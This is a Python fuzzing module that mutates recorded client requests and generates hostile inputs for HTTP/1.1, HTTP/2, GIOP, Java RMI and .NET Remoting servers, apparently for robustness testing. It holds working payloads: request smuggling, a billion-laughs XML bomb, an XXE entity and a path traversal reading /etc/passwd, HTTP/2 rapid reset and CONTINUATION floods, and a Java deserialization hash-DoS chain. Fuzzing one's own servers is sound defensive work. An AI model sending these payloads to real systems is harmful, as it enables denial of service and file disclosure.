"""What a server is sent: recorded requests that were changed, and requests that were made to hurt."""

import random
import struct
from collections.abc import Iterator, Sequence

LONGEST = 256 << 10
"""Bytes of an input; longer ones would measure the network alone."""

EDGES = (0, 1, 0x7F, 0x80, 0xFF, 0x7FFF, 0x8000, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFE, 0xFFFFFFFF)
"""Where lengths and counts of 1, 2 and 4 bytes overflow, change their sign or end."""

NUMBERS = (b"-1", b"99999999999999999999", b"0", b"4294967296", b"1e9", b"x")
"""What stands instead of digits."""

SPECIAL_SHARE = 0.1
"""Of the inputs, so many are specials; the others are changed requests."""


def _place(data: bytearray, chance: random.Random) -> int:
    """Somewhere, at the beginning rather than in the middle of a mebibyte: there the headers are."""
    return chance.randrange(min(len(data), chance.choice((32, 256, LONGEST))))


def mutate(data: bytearray, chance: random.Random, recorded: Sequence[bytes]) -> None:
    """Makes one change."""
    at = _place(data, chance)
    match chance.randrange(9):
        case 0:  # One bit.
            data[at] ^= 1 << chance.randrange(8)
        case 1:  # One byte.
            data[at] = chance.choice((0, 0x7F, 0x80, 0xFF, chance.randrange(256)))
        case 2:  # A number from the edge of its range, over what may be a length or a count.
            size = chance.choice((1, 2, 4))
            number = chance.choice(EDGES) & ((1 << 8 * size) - 1)
            data[at : at + size] = number.to_bytes(size, chance.choice(("big", "little")))
        case 3:  # Another number over digits, such as a length in HTTP or an element in XML.
            if places := [at for at, byte in enumerate(data[:LONGEST]) if 0x30 <= byte <= 0x39]:
                at = chance.choice(places)
                data[at : at + 1] = chance.choice(NUMBERS)
        case 4:  # The end is gone.
            del data[at:]
        case 5:  # A part is gone.
            del data[at : at + chance.choice((1, 2, 4, 8, 64))]
        case 6:  # A part is there several times.
            part = data[at : at + chance.choice((1, 4, 16, 256))]
            data[at:at] = part * chance.choice((1, 2, 100))
        case 7:  # Bytes in between.
            one = chance.choice((b"\0", b"\xff", b"A", chance.randbytes(1)))
            data[at:at] = one * chance.choice((1, 4, 1024, 65536))
        case 8:  # It goes on with the end of another request.
            other = chance.choice(recorded)
            data[at:] = other[chance.randrange(len(other)) :]


def mutated(recorded: Sequence[bytes], chance: random.Random) -> bytes:
    """A recorded request with one change or a few; none of those recorded is empty."""
    data = bytearray(chance.choice(recorded)[:LONGEST])
    for _ in range(chance.choice((1, 1, 1, 2, 4))):
        if data:
            mutate(data, chance, recorded)
    return bytes(data[:LONGEST])


def specials(recorded: Sequence[bytes]) -> list[bytes]:
    """Requests that were made to hurt: general ones, and those of the protocols that the recorded ones speak."""
    found = [b"", b"\0" * LONGEST, b"\xff" * LONGEST, b"\r\n" * 1000, b"A" * LONGEST]
    # A frame that says that 2 GiB follow, and that fewer than none do.
    found += [struct.pack(">I", length) + b"\0" * 64 for length in (0x7FFFFFFF, 0xFFFFFFFF)]
    for begin, made in (
        (b"POST ", _http),
        (_PREFACE, _http2),
        (b"GIOP", _giop),
        (b"JRMI", _jrmp),
        (b".NET", _remoting),
    ):
        if (first := next((it for it in recorded if it.startswith(begin)), None)) is not None:
            found += made(first)
    return found


def _http(request: bytes) -> list[bytes]:
    line, _, rest = request.partition(b"\r\n")
    headers, _, _ = rest.partition(b"\r\n\r\n")
    kept = [
        it for it in headers.split(b"\r\n") if not it.lower().startswith((b"content-length", b"transfer-enc"))
    ]

    def post(more: Sequence[bytes], body: bytes) -> bytes:
        return b"\r\n".join([line, *kept, *more]) + b"\r\n\r\n" + body

    chunked = b"Transfer-Encoding: chunked"
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
    bomb = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">' + laughs + b"]><l>&l9;</l>"
    stolen = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
    deep = b"<a>" * 50_000
    wide = b"<a " + b" ".join(b'a%d="1"' % number for number in range(10_000)) + b"/>"
    return [
        post([b"Content-Length: -1"], b""),
        post([b"Content-Length: 9223372036854775808"], b"x"),
        post([b"Content-Length: 1000000"], b"<"),
        post([b"Content-Length: 4", chunked], b"0\r\n\r\nPOST /x HTTP/1.1\r\nHost: x\r\n\r\n"),
        post([chunked, b"Content-Length: 100"], b"0\r\n\r\n"),
        post([chunked], b"ffffffffffffffff\r\nx"),
        post([chunked], b"1\r\n" * 10_000),
        post([chunked], b"-1\r\n\r\n"),
        post([b"X: " + b"a" * 100_000, b"Content-Length: 0"], b""),
        post([b"X%d: a" % number for number in range(10_000)], b""),
        post([b"Expect: 100-continue", b"Content-Length: 10"], b""),
        (line + b"\r\nHost: x\r\nContent-Length: 0\r\n\r\n") * 500,
        line,
        b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n",
        b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
        *(post([b"Content-Length: %d" % len(body)], body) for body in (bomb, stolen, deep, wide)),
    ]


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _http2(_: bytes) -> list[bytes]:
    begin = _PREFACE + _frame(4, 0, 0, b"")
    # :method POST, :scheme http, :path /, from the static table (RFC 7541, A).
    headers = b"\x83\x86\x84"
    data, head, reset, settings, ping, gone, window, more = 0, 1, 3, 4, 6, 7, 8, 9
    odd = range(1, 4001, 2)
    return [
        # Rapid reset (CVE-2023-44487).
        begin + b"".join(_frame(head, 4, n, headers) + _frame(reset, 0, n, b"\0\0\0\x08") for n in odd),
        # A header block that never ends (CVE-2024-27316 and its like).
        begin
        + _frame(head, 0, 1, headers)
        + b"".join(_frame(more, 0, 1, b"\x40\1a\1b") for _ in range(5000)),
        begin + b"".join(_frame(head, 4, n, headers) for n in odd),
        begin + _frame(settings, 0, 0, struct.pack(">HI", 4, 0)) * 5000,
        begin + _frame(ping, 0, 0, b"01234567") * 5000,
        begin + _frame(window, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 2,
        begin + _frame(window, 0, 0, struct.pack(">I", 0)),
        begin + _frame(settings, 0, 0, struct.pack(">HI", 5, 0xFFFFFFFF)),
        begin + _frame(data, 0, 1, b"x"),
        begin + _frame(head, 4, 2, headers),
        begin + _frame(head, 4 | 8, 1, b"\xff" + headers),
        begin + _frame(gone, 0, 0, bytes(8)) * 100,
        # A message of 4 GiB in a stream of gRPC, and one that claims to be compressed.
        begin + _frame(head, 4, 1, headers) + _frame(data, 1, 1, b"\0\xff\xff\xff\xff"),
        begin + _frame(head, 4, 1, headers) + _frame(data, 1, 1, b"\1\0\0\0\4abcd"),
        _PREFACE,
        begin + b"\xff\xff\xff\0\0\0\0\0\1",
    ]


def _giop(_: bytes) -> list[bytes]:
    def message(kind: int, length: int, payload: bytes = b"", minor: int = 2, flags: int = 0) -> bytes:
        return b"GIOP" + bytes((1, minor, flags, kind)) + struct.pack(">I", length) + payload

    # A request whose key of an object claims to be 4 GiB long, and one with as many contexts.
    key = struct.pack(">IBxxxHxxI", 5, 3, 0, 0xFFFFFFFF)
    contexts = struct.pack(">I", 0xFFFFFFFF)
    return [
        message(0, 0xFFFFFFFF),
        message(0, 0x7FFFFFFF, b"\0" * 64),
        message(0, len(key), key),
        message(0, len(contexts), contexts, minor=0),
        message(0, 16, b"\0" * 16, flags=2) * 2000,
        message(7, 4, b"\0\0\0\5", flags=2) * 2000,
        message(3, 12, b"\0" * 12),
        message(5, 0) * 100,
        message(6, 0),
        message(99, 0),
        b"GIOP\xff\xff\0\0\0\0\0\0",
    ]


def _jrmp(call: bytes) -> list[bytes]:
    begin = call[:7]
    stream = b"\xac\xed\0\5"
    # Sets within sets, whose hash takes time that doubles with each level.
    deep = (
        b"sr\0\x11java.util.HashSet\xba\x44\x85\x95\x96\xb8\xb7\x34\3\0\0xpw\x0c\0\0\0\2?@\0\0\0\0\0\1" * 500
    )
    return [
        begin + b"\x50" + stream + b"w\x22" + bytes(34) + deep,
        begin + b"\x50" + stream + b"w\x22" + bytes(34) + b"ur\0\x13[Ljava.lang.Object;" + b"\xff" * 32,
        begin + b"\x50" + stream + b"t" + b"\xff\xff" + b"a" * 100,
        begin + b"\x50" + stream + b"|" + b"\x7f" * 8,
        begin + b"\x52" * 1000,
        begin + b"\x54" + bytes(14) * 100,
        b"JRMI\0\2\x4d",
        b"JRMI\0\2\xff",
        b"JRMI\xff\xff\x4b",
    ]


def _remoting(_: bytes) -> list[bytes]:
    header = b".NET\1\0\0\0\0\0"
    return [
        header + struct.pack("<I", 0x7FFFFFFF) + b"\0" * 64,
        header + struct.pack("<I", 0xFFFFFFFF),
        header + struct.pack("<i", -1),
        header + b"\0\0\0\0" + b"\4\0\1\1" + struct.pack("<I", 0x7FFFFFFF) + b"a",
        b".NET\xff\xff\xff\xff",
    ]


def inputs(recorded: Sequence[bytes], seed: int) -> Iterator[bytes]:
    """Inputs without end, made of what clients of ours sent by connection; the same ones for a seed."""
    chance, hurting = random.Random(seed), specials(recorded)
    while True:
        is_special = chance.random() < SPECIAL_SHARE
        yield chance.choice(hurting) if is_special else mutated(recorded, chance)
